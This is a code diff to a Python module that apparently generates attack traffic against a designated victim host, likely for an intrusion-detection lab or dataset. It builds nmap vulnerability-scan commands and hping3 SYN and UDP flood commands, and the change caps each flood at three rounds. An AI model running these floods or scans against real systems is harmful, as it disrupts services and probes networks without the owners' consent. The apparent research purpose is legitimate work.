@@ -8,8 +8,8 @@ is bounded by a count (ports, packets, queries, passwords, connections) as well 
 Paths are relative to the run's work folder (inputs/ holds the word lists and query file).
 """
 
+from collections.abc import Callable
 from dataclasses import dataclass
-from typing import Callable
 
 NMAP = ["nmap", "-n", "-Pn", "--max-retries", "1"]
 # NSE's vuln category minus scripts that flood (dos), talk to the whole segment (broadcast)
@@ -81,13 +81,13 @@ def ping_sweep(rng, rounds, ctx, addrs):
 def syn_flood(rng, rounds, ctx, addrs):
     port = str(rng.choice([ctx["ports"]["http"], ctx["ports"]["ssh"], ctx["ports"]["mqtt"]]))
     return [Command(["hping3", "-q", "-S", "-p", port, "-i", f"u{rng.randint(400, 1500)}", "-c", str(rng.randint(1500, 2500)),
-                     ctx["victim"]], 30) for _ in range(rounds)]
+                     ctx["victim"]], 30) for _ in range(min(rounds, 3))]
 
 
 def udp_flood(rng, rounds, ctx, addrs):
     return [Command(["hping3", "-q", "--udp", "-p", str(rng.randint(1024, 65535)), "-d", str(rng.choice([32, 64, 128, 512])),
                      "-i", f"u{rng.randint(400, 1500)}", "-c", str(rng.randint(1500, 2500)), ctx["victim"]], 30)
-            for _ in range(rounds)]
+            for _ in range(min(rounds, 3))]
 
 
 def icmp_flood(rng, rounds, ctx, addrs):
